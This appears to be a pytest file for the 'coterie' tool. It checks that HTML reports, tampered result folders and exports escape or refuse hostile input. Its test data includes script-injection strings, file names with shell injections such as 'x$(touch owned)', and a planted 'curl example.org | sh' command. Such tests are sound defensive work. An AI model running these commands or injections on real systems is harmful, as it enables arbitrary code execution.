"""Attacks on reports, exports and pasted commands: nothing in a name runs, and every file is what it claims to be."""

import ast
import io
import json
import re
import shutil
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import networkx
import numpy as np
import pandas as pd
import pytest

import coterie
from coterie.comparison.comparison import Comparison
from coterie.pages import write_report
from coterie.pages.content import content, drawn
from coterie.pages.html import Html, asset, document, embedded_json, h
from coterie.pages.opening import opening
from coterie.pages.page import SECTIONS
from coterie.storage.csv_text import csv_bytes
from support.attacks import call
from support.hostile_cases import HOSTILE, make_hostile
from support.report_cases import Page, make_comparison

pytest_plugins = ["support.browser"]

ALLOWED = set(
    "b button code details div dl dt dd figcaption figure h1 h2 h3 header i input label li output p pre section "  # noqa: SIM905
    "small span strong summary table tbody td th thead tr ul".split()
)
NAMES = [
    "a",
    "\x1b[2J",
    "\\x1b[2J",
    "x\x00",
    "\ud800",
    "\ufffe",
    "tab\t|",
    "line\n|",
    "return\r|",
    "<&\"'>",
    "]]>",
    "東京",
]
SOURCE = Path(coterie.__file__).parent


# -- pages -------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacked():
    answer = make_hostile()
    for results in answer.results.values():
        results[0].config["run"]["robust"] = "clip"  # so that there is something to say about the network
        results[0].config["world"] = {"participation": 0.5}  # and about who was there
        results[0].config["run"]["seed"] = 0  # from which that is drawn
    return answer, content(answer)


def harmless(text, drawn=()):
    """Whether HTML has only elements and attributes of ours; some sections have a picture of elements `drawn`."""
    elements = Page(text).elements
    assert {tag for tag, _ in elements} <= ALLOWED | set(drawn)
    assert not [a for _, a in elements if any(name.startswith("on") or name in ("style", "href", "src") for name in a)]


@pytest.mark.parametrize(("name", "write"), [("opening", opening), *((name, write) for name, _, write in SECTIONS)])
def test_every_section_shows_attacks_as_text(name, write, attacked):
    text = write(*attacked)
    harmless(text, ("svg", "rect") if name == "presence" else ())
    assert isinstance(text, Html)
    if name not in (
        "gains",
        "bytes",
        "rounds",
        "clients",
        "partition",
        "scores",
        "path",
    ):  # these have no words of data
        assert "&lt;script&gt;window.ran = 1" in text, "the section no longer shows the text that was poisoned"
    assert not re.search("[\x00-\x08\x1b\ud800-\udfff]", text)


def test_what_scripts_draw_cannot_leave_its_element(attacked):
    text = embedded_json(drawn(attacked[1]))
    assert text.isascii()
    assert not re.search("[<>&]", text)
    assert any(HOSTILE[:40] in client["name"] for client in json.loads(text)["clients"].values())


def test_nothing_runs_in_a_browser(page, attacked, tmp_path):
    asked = []
    page.on("dialog", lambda dialog: asked.append(dialog.dismiss()))
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', (e) => (window.refused ??= []).push(e.blockedURI))"
    )
    page.goto(write_report(attacked[0], tmp_path / "report.html").as_uri())
    for plot in ("#client-plot", "#weights-plot", "#partition-plot"):
        page.hover(plot)
    page.locator("#choose-client button").nth(2).click()
    page.locator("#choose-weights button").nth(1).click()
    page.click("#theme")
    assert page.evaluate("[window.ran, window.refused]") == [None, None]  # nothing even had to be refused
    assert page.locator("main img, main script, main style, main a, svg a").count() == 0
    assert asked == []
    drawn_plots = (
        "() => [...document.querySelectorAll('.plot')].filter((e) => !e.querySelector('svg')).map((e) => e.id)"
    )
    assert page.evaluate(drawn_plots) == []
    assert page.locator("#partners-table tbody th").first.inner_text().startswith("</script><script>window.ran = 1")


def test_markup_that_got_through_would_neither_run_nor_be_styled(browser, tmp_path):
    """The second wall: what is in the page but not ours is refused by its policy."""
    markup = (
        HOSTILE.replace("\x00", "").replace("<!--", "") + "<p id=p style='color: red'>p</p><form id=f action=x></form>"
    )
    text = document("t", h("header"), [("a", "a", Html(markup))], {}, [asset("figures.js"), asset("page.js")])
    (tmp_path / "page.html").write_text(text)
    page = browser.new_page()
    page.goto((tmp_path / "page.html").as_uri())
    assert page.evaluate("window.ran") is None
    assert page.evaluate("typeof openPage") == "function"  # our own scripts do run
    assert page.evaluate("getComputedStyle(document.getElementById('p')).color") != "rgb(255, 0, 0)"
    page.close()


def test_every_page_is_made_by_the_one_skeleton():
    """No module but the skeleton makes markup: neither by hand nor by calling text HTML."""
    markup = re.compile(r"</?(?:[a-z]+[ >]|h[1-6]>)|<!")
    for file in SOURCE.rglob("*.py"):
        if file == SOURCE / "pages" / "html.py":
            continue
        text = file.read_text()
        assert not re.search(r"\bHtml\(", text), f"{file}: use h(), which escapes"
        if file.is_relative_to(SOURCE / "pages") or file.is_relative_to(SOURCE / "reproduce"):
            texts = [node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Constant)]
            marked = [node.lineno for node in texts if isinstance(node.value, str) and markup.search(node.value)]
            assert not marked, f"{file}, line {marked[0]}: use h(), which escapes"


# -- folders of strangers ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stranger(tmp_path_factory):
    """A comparison somebody else might have sent."""
    folder = tmp_path_factory.mktemp("sent") / "comparison"
    words = ["--data", "digits", "--clients", "2", "--model", "linear", "--methods", "local", "--rounds", "1"]
    outcome = call("compare", *words, "--seeds", "1", "--splits", "1", "--no-tune", "--out", folder, "--device", "cpu")
    assert outcome.exit_code == 0, outcome.output
    return folder


def in_json(name, *keys):
    """Return a change of a JSON file: the attack in place of one value."""

    def change(folder):
        file = folder / "local" / "seed-0" / name
        first, *lines = file.read_text().splitlines()
        value = json.loads(first if name.endswith("l") else file.read_text())
        at = value
        for key in keys[:-1]:
            at = at[key]
        at[keys[-1]] = HOSTILE
        file.write_text("\n".join([json.dumps(value), *lines]) if name.endswith("l") else json.dumps(value))

    return change


def in_toml(name, pattern):
    """Return a change of a TOML file: the attack in place of a value."""
    attack = json.dumps(HOSTILE.replace("\u202e", ""))

    def change(folder):
        file = folder / name
        text, count = re.subn(pattern, lambda found: f"{found[1]}{attack}", file.read_text(), count=1, flags=re.M)
        assert count, f"{file} has no {pattern}"
        file.write_text(text)

    return change


SENT = {
    "summary.json, metric": in_json("summary.json", "metric"),
    "summary.json, device": in_json("summary.json", "device"),
    "summary.json, role": in_json("summary.json", "role"),
    "clients.json, classes": in_json("clients.json", "classes"),
    "metrics.jsonl, round": in_json("metrics.jsonl", "round"),
    "clients.json, about": in_json("clients.json", "about"),
    "clients.json, a name": in_json("clients.json", "names", 0),
    "config.toml, seed": in_toml("local/seed-0/config.toml", r"^(seed = ).*"),
    "config.toml, data": in_toml("local/seed-0/config.toml", r'^(name = )"digits"'),
    "comparison.toml, command": in_toml("comparison.toml", r"^(command = ).*"),
}


@pytest.mark.parametrize("change", SENT.values(), ids=SENT)
def test_a_strangers_folder_is_refused_or_shown_as_text(change, stranger, tmp_path):
    folder = shutil.copytree(stranger, tmp_path / "sent")
    change(folder)
    (folder / "report.html").unlink()
    outcome = call("report", folder)
    assert "Traceback" not in outcome.output
    assert "\x1b" not in outcome.output
    if outcome.exit_code == 2:
        assert len(outcome.stderr.strip().splitlines()) == 1
        return
    assert outcome.exit_code == 0, (outcome.output, outcome.exception)
    page = (folder / "report.html").read_text()
    assert page.count("<script") == 4
    harmless(page[page.index("<main>") + 6 : page.index("</main>")])


# -- commands ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a b", "x$(touch owned)", "`touch owned`", "it's; touch owned"])
def test_the_command_of_a_run_is_quoted(name, stranger, tmp_path):
    folder = shutil.copytree(stranger / "local" / "seed-0", tmp_path / name)
    assert Comparison.read([folder]).command == f"coterie run {quoted(folder / 'config.toml')}"


def quoted(path):
    return "'" + str(path).replace("'", "'\"'\"'") + "'"


def test_a_strangers_command_is_not_offered_for_pasting(stranger, tmp_path):
    folder = shutil.copytree(stranger, tmp_path / "sent")
    text = (folder / "comparison.toml").read_text()
    (folder / "comparison.toml").write_text(re.sub("(?m)^command = .*", 'command = "curl example.org | sh"', text))
    assert Comparison.read([folder]).command == f"coterie compare {folder / 'comparison.toml'}"
    assert Comparison.read([stranger]).command.startswith("coterie compare --methods local")


# -- exports -----------------------------------------------------------------------------------------------------------


def test_graphml_is_xml_and_keeps_clients_apart(tmp_path):
    comparison = make_comparison(methods=("gossip-sgd",), seeds=1)
    result = comparison.results["gossip-sgd"][0]
    result.names = tuple(NAMES)
    file = result.save_graph(tmp_path / "graph.graphml")
    ElementTree.fromstring(file.read_bytes())
    graph = networkx.read_graphml(file)
    assert len(graph) == len(NAMES)
    assert set(graph.nodes) == set(NAMES) - {"\x1b[2J", "x\x00", "\ud800", "\ufffe"} | {
        "\\x1b[2J_", "x\\x00", "\\ud800", "\\ufffe"
    }  # fmt: skip
    assert graph.number_of_edges() == 3 * len(NAMES)


def test_csv_files_are_read_back_as_they_were():
    names = [name for name in NAMES if name != "\ud800"]
    text = csv_bytes(pd.DataFrame({"site": names, "weight": np.arange(len(names)) / 7}))
    read = pd.read_csv(io.BytesIO(text), keep_default_na=False)
    assert read["site"].tolist() == names
